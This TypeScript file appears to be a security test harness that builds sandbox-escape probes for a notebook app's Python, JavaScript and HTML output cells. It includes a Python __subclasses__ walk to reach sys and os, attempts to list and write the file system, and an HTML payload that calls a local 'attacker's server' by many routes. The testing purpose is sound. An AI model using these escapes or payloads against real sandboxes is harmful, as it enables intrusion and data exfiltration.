/**
 * The attacker's scripts, built from the roads in attack-roads.ts: the JavaScript suite that a
 * bare worker runs (and Python runs too, where it can evaluate JavaScript), the Python and
 * JavaScript cells, and what the page runs to list the storage a cell could have left.
 *
 * Every probe prints one line, `probe <road>: settled | pending | absent | blocked <error>`,
 * so a test can check that each one ran; whether it escaped is told by the attacker's server
 * and the page's storage, never by the cell's own word.
 */
import { EVAL_ROADS, JS_ROADS, OS_ROADS, PYODIDE_ROADS, ROADS } from './attack-roads';

/** Who ran a probe, and so where its requests go. */
export interface Target {
  readonly port: number;
  readonly tag: string;
}

const http = ({ port, tag }: Target) => `http://127.0.0.1:${String(port)}/${tag}`;
const localhost = ({ port, tag }: Target) => `http://localhost:${String(port)}/${tag}`;
const ws = ({ port, tag }: Target) => `ws://127.0.0.1:${String(port)}/${tag}`;

/** The paths on the attacker's server that belong to a tag. */
export const pathsOf = (tag: string) => `/${tag}/`;

/**
 * A JavaScript function expression `(u, L, w, tag) => Promise<Record<road, outcome>>` that
 * tries every road at once on the global scope it runs in: a worker's, or a JavaScript cell's.
 * Each road is tried even where what it needs is absent, each inside its own try/catch, so an
 * outcome is what the road met (`settled`, `pending`, or `blocked` with the error), marked
 * `absent;` where the scope lacks what the road needs.
 */
export function javascriptSuite(): string {
  const probes = ROADS.map((road) => `    [${JSON.stringify(road.name)}, ${JSON.stringify(road.needs)}, async () => { ${road.js} }],`).join('\n');
  return `(async (u, L, w, tag) => {
  const later = (ms) => new Promise((done) => setTimeout(done, ms));
  const present = (path) => {
    let at = globalThis;
    for (const name of path) {
      if (at === null || at === undefined) return false;
      at = at[name];
    }
    return at !== null && at !== undefined;
  };
  const probes = [
${probes}
  ];
  const outcomes = await Promise.all(probes.map(async ([name, needs, run]) => {
    const mark = present(needs) ? '' : 'absent; ';
    try {
      const done = await Promise.race([run().then(() => true), later(1500).then(() => false)]);
      return [name, mark + (done ? 'settled' : 'pending')];
    } catch (error) {
      return [name, mark + 'blocked ' + String(error && error.name) + ': ' + String(error && error.message).slice(0, 120)];
    }
  }));
  return Object.fromEntries(outcomes);
})`;
}

/** A call of the suite for a target, as one JavaScript expression. */
export function javascriptSuiteCall(target: Target): string {
  return `${javascriptSuite()}(${JSON.stringify(http(target))}, ${JSON.stringify(localhost(target))}, ${JSON.stringify(ws(target))}, ${JSON.stringify(target.tag)})`;
}

/** The files of the attacker's own plain page: a classic worker runs the suite and posts its outcomes. */
export function barePage(port: number): Record<string, { type: string; body: string }> {
  const target = { port, tag: 'bare-worker' };
  return {
    'index.html': { type: 'text/html', body: '<!doctype html>\n<meta charset="utf-8">\n<title>bare</title>\n<script src="page.js"></script>\n' },
    'page.js': {
      type: 'text/javascript',
      body: [
        "window.runBareWorker = () => new Promise((done) => { const worker = new Worker('worker.js'); worker.onmessage = (event) => done(event.data); });",
        // The app's HTML output frame, as it is: sandboxed with allow-scripts, from srcdoc.
        "window.showHtml = (html) => { const frame = document.createElement('iframe'); frame.sandbox = 'allow-scripts'; frame.srcdoc = html; document.body.append(frame); };",
      ].join('\n'),
    },
    'worker.js': { type: 'text/javascript', body: `${javascriptSuiteCall(target)}.then((outcomes) => postMessage(outcomes));\n` },
  };
}

const indent = (code: string, by: string) =>
  code
    .split('\n')
    .map((line) => by + line)
    .join('\n');

const py = (value: string) => JSON.stringify(value);

/**
 * Python that finds the worker global by every road it knows, then tries every road out from it;
 * where it can evaluate JavaScript, it runs the JavaScript suite too, as `suite`.
 */
export function pythonProbe(target: Target, suite: Target): string {
  const jsRoads = JS_ROADS.map((road) => `        (${py(road.name)}, lambda: ${road.py}),`).join('\n');
  const roads = ROADS.filter((road) => road.py !== null)
    .map((road, index) => `    async def road_${String(index)}():\n${indent(road.py ?? '', '        ')}\n    await probe(${py(road.name)}, ${JSON.stringify(road.needs)}, road_${String(index)})`)
    .join('\n');
  const pyodideRoads = PYODIDE_ROADS.map((road, index) => `    async def pyodide_${String(index)}():\n        ${road.py}\n    await probe(${py(road.name)}, [], pyodide_${String(index)})`).join('\n');
  const evalRoads = EVAL_ROADS.map((road) => `        (${py(road.name)}, lambda src: ${road.py}),`).join('\n');
  return `import json


async def _attack():
    tag = ${py(target.tag)}
    u = ${py(http(target))}
    L = ${py(localhost(target))}
    w = ${py(ws(target))}

    def sys_by_subclasses():
        for found in ().__class__.__base__.__subclasses__():
            namespace = getattr(getattr(found, "__init__", None), "__globals__", None)
            if isinstance(namespace, dict) and hasattr(namespace.get("sys"), "modules"):
                return namespace["sys"]
        raise LookupError("no class leads to sys")

    def outcome(error):
        return f"blocked {type(error).__name__}: {str(error)[:120]}".replace("\\n", " ")

    J = None
    try:
        import js as found
        J = found
        print("js-road import js: reached")
    except BaseException as error:
        print("js-road import js:", outcome(error))
    for name, get in [
${jsRoads}
    ]:
        try:
            found = get()
        except BaseException as error:
            print(f"js-road {name}:", outcome(error))
            continue
        reached = hasattr(found, "Object")
        print(f"js-road {name}: {'reached' if reached else 'absent'}")
        if reached and J is None:
            J = found

    def later(ms):
        return J.Promise.new(lambda done, fail: J.setTimeout(done, ms))

    def array(*items):
        made = J.Array.new()
        for item in items:
            made.push(item)
        return made

    # A JavaScript call that gives a promise gives Python a future of Pyodide's event loop,
    # which must not go back to JavaScript (Promise.race would meet a destroyed proxy); so the
    # time limit is kept on that loop, reached without importing asyncio.
    loop = J.Promise.resolve(0).get_loop() if J is not None else None

    async def wait(awaitable):
        return await awaitable

    def settle(awaitable, ms=1000):
        result = loop.create_future()

        def finish(source):
            if result.done():
                return
            error = source.exception()
            if error is None:
                result.set_result(source.result())
            else:
                result.set_exception(error)

        loop.create_task(wait(awaitable)).add_done_callback(finish)
        loop.call_later(ms / 1000, lambda: result.done() or result.set_result(None))
        return result

    def promise(executor):
        return J.Promise.new(executor)

    def options(**entries):
        made = J.Object.new()
        for key, value in entries.items():
            setattr(made, key, value)
        return made

    def present(path):
        at = J
        for part in path:
            at = getattr(at, part, None)
            if at is None:
                return False
        return True

    async def probe(name, needs, body):
        if J is None or not present(needs):
            print(f"probe {name}: absent")
            return
        try:
            await body()
            print(f"probe {name}: settled")
        except BaseException as error:
            print(f"probe {name}:", outcome(error))

${roads}
${pyodideRoads}

    for index, (name, run) in enumerate([
${evalRoads}
    ]):
        src = "try { fetch(" + json.dumps(u + f"/eval-{index}") + ").catch(() => {}); } catch (e) {} import(" + json.dumps(u + f"/eval-{index}.mjs") + ").catch(() => {});"
        try:
            if J is None:
                raise LookupError("no road to js")
            run(src)
            print(f"eval {name}: ran")
        except BaseException as error:
            print(f"eval {name}:", outcome(error))
    # The whole JavaScript suite, run on the worker global by the first road that evaluates.
    suite = ${py(javascriptSuiteCall(suite))}
    for name, run in [
        ("js.Function", lambda: J.Function("return " + suite)()),
        ("js.eval", lambda: J.eval(suite)),
        ("pyodide.code.run_js", lambda: __import__("pyodide.code", None, None, []).code.run_js(suite)),
    ]:
        try:
            if J is None:
                raise LookupError("no road to js")
            running = run()
        except BaseException as error:
            print(f"suite by {name}:", outcome(error))
            continue
        outcomes = await settle(running, 5000)
        for road in J.Object.keys(outcomes):
            print(f"suite {road}:", getattr(outcomes, road))
        return
    print("suite: no way to run JavaScript")


await _attack()
`;
}

/** Python that tries to list and write the file system through every road to \`os\` and \`open\`. */
export function pythonFileSystemProbe(tag: string): string {
  const osRoads = OS_ROADS.map((road) => `    (${py(road.name)}, lambda: ${road.py}),`).join('\n');
  return `def _sys_by_subclasses():
    for found in ().__class__.__base__.__subclasses__():
        namespace = getattr(getattr(found, "__init__", None), "__globals__", None)
        if isinstance(namespace, dict) and hasattr(namespace.get("sys"), "modules"):
            return namespace["sys"]
    raise LookupError("no class leads to sys")


def _outcome(error):
    return f"blocked {type(error).__name__}: {str(error)[:120]}".replace("\\n", " ")


def _support_open(*args):
    real = display.__globals__["__builtins__"]
    return (real["open"] if isinstance(real, dict) else real.open)(*args)


sys_by_subclasses = _sys_by_subclasses
for _name, _get in [
${osRoads}
]:
    try:
        _os = _get()
        print(f"module {_name}: {type(_os).__name__} {getattr(_os, '__name__', '?')}")
    except BaseException as _error:
        print(f"module {_name}:", _outcome(_error))
        # No module is no file system either: the listing is blocked before it starts.
        print(f"fs {_name} listdir:", _outcome(_error))
        continue
    try:
        print(f"fs {_name} listdir: listed {len(_os.listdir('/'))}")
    except BaseException as _error:
        print(f"fs {_name} listdir:", _outcome(_error))
del sys_by_subclasses
for _name, _open in [
    ("open", lambda: open("/tmp/attack-${tag}-1", "w")),
    ("print.__self__.open", lambda: print.__self__.open("/tmp/attack-${tag}-2", "w")),
    ('display.__globals__["__builtins__"] open', lambda: _support_open("/tmp/attack-${tag}-3", "w")),
    ('__import__("io", None, None, []).open', lambda: __import__("io", None, None, []).open("/tmp/attack-${tag}-4", "w")),
]:
    try:
        with _open() as _file:
            _file.write("x")
        print(f"fs {_name} write: wrote")
    except BaseException as _error:
        print(f"fs {_name} write:", _outcome(_error))
`;
}

/**
 * The worker's capabilities a JavaScript cell must not have: what each road needs first, and
 * the rest of a worker's scope that leads out of QuickJS.
 */
export const CELL_CAPABILITIES: readonly string[] = [
  ...new Set([...ROADS.flatMap((road) => road.needs.slice(0, 1)), 'WebTransport', 'SharedWorker', 'navigator', 'fonts', 'postMessage', 'self', 'location', 'Request', 'Blob', 'URL']),
];

/**
 * A JavaScript (QuickJS) cell that prints `globals: ` and the capabilities of CELL_CAPABILITIES
 * it has (`none` when it has none), then tries every road of the suite, the very code the bare
 * worker escapes with, and `import()` of a specifier built at run time; each prints `probe
 * <road>: <outcome>`.
 */
export function javascriptCellProbe(target: Target): string {
  return `const found = ${JSON.stringify(CELL_CAPABILITIES)}.filter((name) => typeof globalThis[name] !== 'undefined');
console.log('globals: ' + (found.length === 0 ? 'none' : found.join(' ')));
const outcomes = await ${javascriptSuiteCall(target)};
for (const road of Object.keys(outcomes)) console.log('probe ' + road + ': ' + outcomes[road]);
const specifier = [${JSON.stringify(http(target))}, 'import-variable.mjs'].join('/');
try {
  await import(specifier);
  console.log('probe import-variable: settled');
} catch (error) {
  console.log('probe import-variable: blocked ' + error.name + ': ' + error.message);
}`;
}

/** A JavaScript cell whose static import names the attacker's server. */
export function javascriptStaticImport(target: Target): string {
  return `import ${JSON.stringify(`${http(target)}/static-import.mjs`)};\nconsole.log('static import ran');`;
}

/** What HTML output could load or send: each element aims at its own path. */
export const HTML_HITS = ['/img.png', '/style.css', '/import.css', '/background.png', '/script.js', '/inline-fetch', '/inline-image.png', '/frame.html', '/video.mp4', '/navigate'] as const;

/** What the payload's inline script logs to the console first, so a test sees that it ran. */
export const htmlRan = (tag: string) => `html payload ran: ${tag}`;

/** HTML for a MIME bundle that calls home by every road an output frame has. */
export function htmlPayload(target: Target): string {
  const u = http(target);
  return [
    `<img src="${u}/img.png">`,
    `<link rel="stylesheet" href="${u}/style.css">`,
    `<style>@import url("${u}/import.css"); div.far { background: url("${u}/background.png"); }</style><div class="far">far</div>`,
    `<script src="${u}/script.js"></script>`,
    `<script>console.log(${JSON.stringify(htmlRan(target.tag))}); fetch("${u}/inline-fetch").catch(() => {}); new Image().src = "${u}/inline-image.png"; setTimeout(() => { location.href = "${u}/navigate"; }, 500);</script>`,
    `<iframe src="${u}/frame.html"></iframe>`,
    `<video src="${u}/video.mp4"></video>`,
  ].join('\n');
}

/** Page script: starts listening on the channel the probes post to. */
export const LISTEN_BROADCAST = `(() => {
  if (globalThis.attackHeard) return;
  globalThis.attackHeard = [];
  globalThis.attackChannel = new BroadcastChannel('attack');
  globalThis.attackChannel.onmessage = (event) => globalThis.attackHeard.push(String(event.data));
})()`;

/** Page script: every storage name a probe could have left that the page can list, by road. */
export const PAGE_STORAGE = `(async () => {
  const ours = (name) => typeof name === 'string' && name.startsWith('attack-');
  const seen = {};
  seen['indexeddb'] = (await indexedDB.databases()).map((database) => database.name).filter(ours);
  seen['cache-storage'] = (await caches.keys()).filter(ours);
  seen['opfs'] = [];
  for await (const name of (await navigator.storage.getDirectory()).keys()) if (ours(name)) seen['opfs'].push(name);
  seen['storage-buckets'] = navigator.storageBuckets ? (await navigator.storageBuckets.keys()).filter(ours) : [];
  seen['webkit-file-system'] = await new Promise((done) => {
    if (typeof webkitRequestFileSystem !== 'function') return done([]);
    webkitRequestFileSystem(0, 1024, (fs) => fs.root.createReader().readEntries((entries) => done(entries.map((entry) => entry.name).filter(ours)), () => done([])), () => done([]));
  });
  seen['broadcast-channel'] = (globalThis.attackHeard ?? []).map((tag) => 'attack-' + tag);
  return seen;
})()`;
